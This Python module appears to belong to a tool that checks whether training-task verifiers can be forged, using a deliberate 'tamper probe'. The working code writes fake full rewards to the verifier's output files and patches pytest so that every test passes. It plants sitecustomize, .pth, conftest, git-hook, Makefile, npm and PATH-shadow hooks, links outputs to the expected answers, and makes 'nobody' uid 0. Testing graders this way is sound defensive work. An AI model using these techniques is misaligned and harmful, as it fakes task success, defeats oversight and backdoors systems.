"""Tamper probes: a fixed, task-agnostic adversary run in the trial path instead of a solution.

``TamperProbe`` runs the reference solution, then breaks its work and plants hooks, all in one
trial (the same ``run_trial`` as rollouts, so what it proves holds for training):

- every regular file the reference wrote or changed in the result paths (by content against the
  image's, hashed before solve.sh: ``aes_lib.sandbox.changes``) is replaced: Python files by the
  Python hook, executables and shell scripts by the shell hook, a Makefile by one that runs the
  shell hook when make reads it, a ``package.json`` by one whose every script runs it, a file whose
  format can carry code (a pickle, YAML, jsonpickle's JSON, a NumPy array, a torch checkpoint:
  ``payloads``) by one that runs the Python hook when loaded, anything else emptied;
- every other Python file, shell script, Makefile and ``package.json`` below a directory the
  reference wrote to, the working directory or a usual home of code (/app, /srv, /opt, /home,
  /root, ...) gets the hook added first (it keeps working; make runs it whenever it reads the file,
  npm, yarn and pnpm before each script, and npm's lifecycle scripts are added);
- each of those directories that holds code (at most ``MAX_DIRS``) gets a ``sitecustomize.py``, ``usercustomize.py``, a ``.pth``, a
  ``conftest.py``, a Makefile where it has none (make builds there with its built-in rules) and
  PATH shadows (``python3``, ``python``, ``pytest``, ``git``, ``sh``, ``bash``, ``make``); every git
  repository there gets every client hook and the programs its configuration runs (fsmonitor, a
  clean and smudge filter for every file, an external diff); root's shell start-up files get one.

Each hook, wherever it runs, writes a full reward to ``/logs/verifier`` (``reward.txt`` and a
``reward.json`` whose ``aes_probe`` metric is the hook's number), keeps rewriting it from a
detached process, rewrites it again at exit, passes every later test when it finds itself in a
pytest process, and prints ``AES_PROBE <n> ran`` on stderr (and ``AES_PROBE <n> wrote the
reward`` where its write succeeded).
``control=True`` makes the same changes with hooks that do nothing (the same files, shebangs and
modes): what the broken solution earns honestly. A task is forgeable when the probe earns more
than both the empty solution and the control, or when a hook wrote the reward file while the
tests ran: whether the tests' own last write then lands after the hook's is a race, and an agent
that can write the reward can also wait for it (``forgery``).
"""

from __future__ import annotations

import dataclasses
import posixpath
import re
import shlex
from pathlib import Path
from typing import ClassVar

from aes_lib.bundle import Task
from aes_lib.sandbox import changes, payloads
from aes_lib.sandbox.container import Sandbox
from aes_lib.sandbox.trial import AgentOutcome, OracleAgent, TrialResult
from aes_lib.sandbox.verifier import result_paths

WITNESS = ".aes-probe-witness"
"""A world-writable folder in the first result path: a hook that can read /tests while the
tests run leaves its number there, and the trial reads it back (``TrialResult.witnessed``)."""
MANIFEST = "/tmp/.aes-probe-manifest"
_RAN = re.compile(r"AES_PROBE (\d+) ran")
_WROTE = re.compile(r"AES_PROBE (\d+) wrote the reward as uid 0\b")

# The Python hook: {n} is its number. Writes the reward now, at exit and from a detached loop.
PY_HOOK = r'''
def _aes_probe_{n}():
    import os, sys, subprocess, atexit
    code = ("import os, time\n"
            "def forge():\n"
            "    try:\n"
            "        os.makedirs('/logs/verifier', exist_ok=True)\n"
            "        open('/logs/verifier/reward.txt', 'w').write('1\\n')\n"
            "        open('/logs/verifier/reward.json', 'w').write('{{\"reward\": 1.0, \"aes_probe\": {n}}}')\n"
            "        return True\n"
            "    except OSError:\n"
            "        return False\n")
    exec(code, globals())
    sys.stderr.write("AES_PROBE {n} ran\n")
    if forge():
        sys.stderr.write("AES_PROBE {n} wrote the reward as uid %d\n" % os.geteuid())
    for top, _, names in os.walk("/tests"):  # an agent's program that can read the expected answers
        try:
            open(os.path.join(top, names[0]), "rb").close() if names else None
        except OSError:
            break
        if names:
            sys.stderr.write("AES_PROBE {n} read the tests\n")
            try:
                open(os.path.join({witness!r}, "{n}"), "w").close()
            except OSError:
                pass
            break
    atexit.register(forge)
    reports = sys.modules.get("_pytest.reports")  # loaded into a pytest process: pass every later test
    if reports is not None:
        made = reports.TestReport.from_item_and_call.__func__

        def passed(cls, item, call):
            report = made(cls, item, call)
            report.outcome, report.longrepr = "passed", None
            return report
        reports.TestReport.from_item_and_call = classmethod(passed)
    try:
        subprocess.Popen([sys.executable or "python3", "-c", code + "for _ in range(3000):\n    forge(); time.sleep(0.05)\n"],
                         start_new_session=True, stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL,
                         stderr=subprocess.DEVNULL)
    except OSError:
        pass
_aes_probe_{n}()
'''
# The shell hook, the same in shell.
SH_HOOK = r'''
echo "AES_PROBE {n} ran" >&2
_aes_forge() {{ mkdir -p /logs/verifier 2>/dev/null; echo 1 > /logs/verifier/reward.txt 2>/dev/null &&
  echo '{{"reward": 1.0, "aes_probe": {n}}}' > /logs/verifier/reward.json 2>/dev/null; }}
_aes_forge && echo "AES_PROBE {n} wrote the reward as uid $(id -u)" >&2
if [ -n "$(find /tests -type f -readable -print -quit 2>/dev/null)" ]; then
  echo "AES_PROBE {n} read the tests" >&2; : > '{witness}/{n}' 2>/dev/null
fi
( trap '' HUP; i=0; while [ $i -lt 3000 ]; do _aes_forge; sleep 0.05; i=$((i + 1)); done ) >/dev/null 2>&1 </dev/null &
trap _aes_forge EXIT
'''
# A pytest plugin (in the planted conftest.py) that passes every test of the run it joins.
PASS_ALL = '''
import pytest


@pytest.hookimpl(hookwrapper=True)
def pytest_runtest_makereport(item, call):
    report = (yield).get_result()
    report.outcome, report.longrepr = "passed", None
'''
# The control's stand-ins: the same files in the same places, doing nothing.
CONTROL_PY = "# tamper probe control {n}\n"
CONTROL_SH = ": tamper probe control {n}\n"
SHADOWS = ("python3", "python", "pytest", "git", "sh", "bash", "make")
GIT_HOOKS = ("pre-commit", "commit-msg", "post-commit", "pre-push", "post-checkout", "post-merge",
             "pre-rebase", "post-rewrite", "prepare-commit-msg", "post-index-change", "reference-transaction")

# Runs as root in the agent's container after solve.sh, after ``payloads``' source. Python, so that
# it does not depend on the image's shell tools beyond python3; prints the manifest (n, kind, path) as TSV.
_PLANT = Path(payloads.__file__).read_text() + r'''
import os, shlex, stat, sys
PY, SH, PASS_ALL = sys.argv[1], sys.argv[2], sys.argv[3]
SHADOWS, GIT_HOOKS = sys.argv[4].split(), sys.argv[5].split()
workdir, WITNESS, TESTS, control = sys.argv[6], sys.argv[7], sys.argv[8].split("\n"), sys.argv[9] == "1"
written = [p for p in sys.stdin.read().split("\0") if p]
COMMON = ("/app", "/srv", "/opt", "/home", "/root", "/workspace", "/code", "/data", "/project")
MAX_DIRS = 200
manifest, n = [], 0

def hook(kind, path, py):
    global n
    n += 1
    manifest.append(f"{n}\t{kind}\t{path}")
    return (PY if py else SH).format(n=n, witness=WITNESS)

def put(path, text, mode=0o644):
    try:
        if os.path.islink(path):  # write the file itself, never where a link points
            os.remove(path)
        with open(path, "w") as f:
            f.write(text)
        os.chmod(path, mode)
    except OSError:
        pass

def read(path):
    """A file's own text: "" for a link (``put`` replaces a link, never writes where it points)."""
    if os.path.islink(path):
        return ""
    try:
        with open(path, errors="replace") as f:
            return f.read()
    except OSError:
        return ""

def insert(path, text, at_end=False):
    """The hook first (after a #! line), so that it runs even when the file never ends (a
    server); at the end when Python requires its first statements (``from __future__``)."""
    body = read(path)
    first, rest = body.split("\n", 1) if body.startswith("#!") and "\n" in body else ("", body)
    try:
        mode = os.stat(path).st_mode & 0o7777
    except OSError:
        return
    put(path, body + "\n" + text if at_end else (first + "\n" if first else "") + text + "\n" + rest, mode)

def is_script(path):
    try:
        with open(path, "rb") as f:
            head = f.read(2)
        return head == b"#!" or path.endswith(".sh") or os.stat(path).st_mode & 0o111
    except OSError:
        return False

MAKEFILES = ("Makefile", "makefile", "GNUmakefile")
# npm's lifecycle scripts (npm, yarn and pnpm run them on install, test, start) and the usual others
NPM_SCRIPTS = ("preinstall", "install", "postinstall", "prepare", "pretest", "test", "prestart", "start", "build")

def is_makefile(path):
    return os.path.basename(path) in MAKEFILES or path.endswith(".mk")

def beside(kind, path, tool):
    """The shell hook as a script beside ``path``, which a tool's configuration there runs: its command."""
    text = hook(kind, path, False)
    script = os.path.join(os.path.dirname(path), f".aes-probe-{tool}-{n}.sh")
    put(script, text, 0o755)
    return f"sh {shlex.quote(script)} >&2"

def make_hook(kind, path):
    """A line that runs the shell hook whenever make reads the file, whatever the target."""
    command = beside(kind, path, "make")
    return f"_aes_probe_{n} := $(shell {command})\n"

def npm_hook(kind, path, keep):
    """``path`` (a package.json) with every script, its own and npm's lifecycle ones, running the
    shell hook first; ``keep``: then its own command, so the package still works."""
    try:
        package = json.loads(read(path))
    except ValueError:
        package = {}
    package = package if isinstance(package, dict) else {}
    own = package.get("scripts") if isinstance(package.get("scripts"), dict) else {}
    command = beside(kind, path, "npm")
    package["scripts"] = {name: command + (f"; {own[name]}" if keep and isinstance(own.get(name), str) else "")
                          for name in dict.fromkeys([*NPM_SCRIPTS, *own])}
    put(path, json.dumps(package, indent=2) + "\n")

def test_file(path):
    """The tests' file an output is likely compared with: the same name, else their first data file."""
    data = [t for t in TESTS if t and not t.endswith((".py", ".sh"))] or ["test.sh"]
    return "/tests/" + next((t for t in TESTS if os.path.basename(t) == os.path.basename(path)), data[0])

if WITNESS:
    os.makedirs(WITNESS, exist_ok=True)
    os.chmod(WITNESS, 0o1777)
if not control:  # the account database: "nobody" made uid 0 (a name lookup would hand out root)
    try:
        with open("/etc/passwd") as f:
            accounts = f.read()
        put("/etc/passwd", "".join(line.replace(":65534:", ":0:", 1) if line.startswith("nobody:") else line
                                   for line in accounts.splitlines(True)))
        manifest.append("0\taccount database\t/etc/passwd")
    except OSError:
        pass
dirs = set()
for path in written:
    if not os.path.isfile(path) or os.path.islink(path):
        continue
    dirs.add(os.path.dirname(path))
    if path.endswith(".py"):
        put(path, hook("reference file (python hook)", path, True), 0o755)
    elif is_makefile(path):
        put(path, make_hook("reference file (make hook)", path))
    elif os.path.basename(path) == "package.json":
        npm_hook("reference file (npm scripts)", path, keep=False)
    elif is_script(path):
        put(path, "#!/bin/sh\n" + hook("reference file (shell hook)", path, False), 0o755)
    elif (found := carrier(path)) is not None:  # a format whose loading can run code
        kind, make = found
        try:
            with open(path, "wb") as f:
                f.write(make(hook(kind, path, True), control))
        except OSError:
            pass
    elif control:
        put(path, "")
    else:  # a link to the tests' own data: the tests would compare the answer with itself
        n += 1
        manifest.append(f"{n}\tlink into the tests\t{path}")
        try:
            os.remove(path)
            os.symlink(test_file(path), path)
        except OSError:
            put(path, "")
for top in (workdir, *COMMON):
    if top and top != "/" and os.path.isdir(top):
        dirs.add(top)
replaced, planted = set(written), 0
for top in sorted(dirs):
    for root, subdirs, files in os.walk(top):
        subdirs[:] = [d for d in subdirs if d not in ("proc", "sys", "dev", "node_modules")]
        if root.endswith("/.git"):
            hooks = os.path.join(root, "hooks")
            os.makedirs(hooks, exist_ok=True)
            for h in GIT_HOOKS:
                put(os.path.join(hooks, h), "#!/bin/sh\n" + hook("git hook", os.path.join(hooks, h), False), 0o755)
            configured = os.path.join(root, "aes-probe-configured")  # a filter must pass its input on
            put(configured, "#!/bin/sh\n" + hook("git configuration", configured, False) + "cat\n", 0o755)
            config = os.path.join(root, "config")
            put(config, read(config) + f'[core]\n\tfsmonitor = {configured}\n[filter "aesprobe"]\n\tclean = {configured}\n'
                f'\tsmudge = {configured}\n[diff]\n\texternal = {configured}\n')
            os.makedirs(os.path.join(root, "info"), exist_ok=True)
            attributes = os.path.join(root, "info", "attributes")
            put(attributes, read(attributes) + "* filter=aesprobe\n")
            subdirs[:] = []
            continue
        for name in files:
            path = os.path.join(root, name)
            if path in replaced or os.path.islink(path) or name.startswith(".aes-probe"):
                continue
            if name.endswith(".py"):
                insert(path, hook("added to a python module", path, True), "from __future__" in read(path))
            elif is_script(path) and name.endswith(".sh"):
                insert(path, hook("added to a shell script", path, False))
            elif is_makefile(path):
                insert(path, make_hook("added to a Makefile", path))
            elif name == "package.json":
                npm_hook("added to package.json", path, keep=True)
        code_here = root in dirs or any(f.endswith((".py", ".sh")) for f in files)
        if not code_here or planted >= MAX_DIRS:
            continue
        planted += 1
        plants = {"sitecustomize.py": ("sitecustomize", True), "usercustomize.py": ("usercustomize", True),
                  "conftest.py": ("conftest.py", True)}
        for name, (kind, py) in plants.items():
            path = os.path.join(root, name)
            if not os.path.exists(path):
                put(path, hook(kind, path, py) + (PASS_ALL if name == "conftest.py" else ""))
        if not set(files) & set(MAKEFILES):  # make reads one here, with its built-in rules for the rest
            path = os.path.join(root, "Makefile")
            put(path, make_hook("planted Makefile", path))
        path = os.path.join(root, "aes_probe_hook.pth")
        put(path, "import aes_probe_hook_mod\n")
        put(os.path.join(root, "aes_probe_hook_mod.py"), hook(".pth", path, True))
        for tool in SHADOWS:
            path = os.path.join(root, tool)
            if not os.path.exists(path):
                put(path, "#!/bin/sh\n" + hook("PATH shadow", path, False), 0o755)
home = os.path.expanduser("~")
for name in (".bashrc", ".profile", ".bash_profile"):
    path = os.path.join(home, name)
    with open(path, "a") as f:
        f.write("\n" + hook("shell start-up file", path, False))
print("\n".join(manifest))
'''


@dataclasses.dataclass(frozen=True)
class TamperProbe:
    """The reference solution's end state, its work broken and (unless ``control``) hooks
    planted everywhere the agent could write code the tests might run."""

    task: Task
    control: bool = False
    kind_paths: tuple[str, ...] = ()
    """The result paths of the task's kind (``TaskKinds.results``): what it wrote there is broken too."""
    witness: ClassVar[str] = WITNESS

    async def run(self, sandbox: Sandbox, instruction: str) -> AgentOutcome:
        image_workdir = sandbox.container.attrs["Config"].get("WorkingDir")
        workdir = self.task.config.environment.workdir or image_workdir or ""
        roots = result_paths(self.task, image_workdir, self.kind_paths)[0]
        snap = await sandbox.exec(changes.snap(roots), timeout=120, user=0)
        if snap.exit_code != 0:
            return AgentOutcome(exit_code=snap.exit_code, output=f"cannot hash the image's files: {snap.output[-300:]}")
        solved = await OracleAgent(self.task).run(sandbox, instruction)
        witness = posixpath.join(roots[0], WITNESS) if roots else ""
        hooks = [CONTROL_PY, CONTROL_SH, ""] if self.control else [PY_HOOK, SH_HOOK, PASS_ALL]
        tests = "\n".join(str(p.relative_to(self.task.tests_dir)) for p in sorted(self.task.tests_dir.rglob("*"))
                          if p.is_file())
        args = " ".join(map(shlex.quote, [*hooks, " ".join(SHADOWS), " ".join(GIT_HOOKS), workdir, witness, tests,
                                          "1" if self.control else "0"]))
        # What the reference wrote or changed where it crosses to the verifier (the result paths).
        find = changes.changed(roots) if roots else "printf ''"
        plant = await sandbox.exec(f"{find} | python3 -c {shlex.quote(_PLANT)} {args} > {MANIFEST} && cat {MANIFEST}",
                                   timeout=120, user=0)
        # A reference cut off by its timeout or hooks not all planted leave the work only partly
        # broken: that run proves nothing either way (``planted`` is False for it).
        return AgentOutcome(exit_code=solved.exit_code or plant.exit_code, timed_out=solved.timed_out or plant.timed_out,
                            output=f"{solved.output[-2000:]}\n== planted\n{plant.output}")


def planted(result: TrialResult) -> bool:
    """Whether a probe (or control) trial ran the reference and planted every change: only then
    may its reward count toward a verdict."""
    return result.agent.exit_code == 0 and not result.agent.timed_out


@dataclasses.dataclass(frozen=True)
class Forgery:
    """Why a task is ``verifier_forgeable``: the probe's reward and the hooks that did it."""

    reward: float
    baseline: float
    hooks: tuple[str, ...]
    """``kind path`` of the hook whose reward stood, else of those that wrote one, else of every
    hook the tests ran."""
    wrote: bool = False
    """Whether a hook wrote the reward file as root while the tests ran (whatever the reward ended as)."""
    read_tests: bool = False
    """Whether a hook the tests ran could read /tests (the expected answers)."""

    def detail(self) -> str:
        where = "; ".join(self.hooks[:5]) or "no hook reported itself (a change the probe made changed the tests' result)"
        what = (f"earned {self.reward:g} (the empty or broken solution: {self.baseline:g})"
                if self.reward > self.baseline else "could write the reward file while the tests ran"
                if self.wrote else "could read the tests (the expected answers) while they ran it")
        return (f"a tamper probe that does no work {what}: {where}. Run the agent's code only as an unprivileged "
                "user in a subprocess of the tests, never in the tests' own process (the managed tests/test.sh does)")


def forgery(probe: TrialResult, baseline: float) -> Forgery | None:
    """A ``Forgery`` when ``probe`` earned more than ``baseline`` (the best of the empty solution
    and the control), one of its hooks wrote the reward file as root while the tests ran, or one
    could read the tests (its witness), naming the hooks from the probe's manifest and the
    verifier's output."""
    wrote = dict.fromkeys(int(n) for n in _WROTE.findall(probe.verifier.output))
    read = dict.fromkeys(int(n) for n in probe.witnessed if n.isdigit())
    if probe.reward <= baseline and not wrote and not read:
        return None
    manifest = {}
    for line in probe.agent.output.split("== planted\n", 1)[-1].splitlines():
        n, _, rest = line.partition("\t")
        if n.isdigit():
            manifest[int(n)] = rest.replace("\t", " ")
    final = probe.metrics.get("aes_probe")
    ran = dict.fromkeys(int(n) for n in _RAN.findall(probe.verifier.output))
    chosen = [int(final)] if final is not None and int(final) in manifest else list(wrote or read or ran)
    return Forgery(probe.reward, baseline, tuple(manifest.get(n, f"hook {n}") for n in chosen), bool(wrote),
                   bool(read))
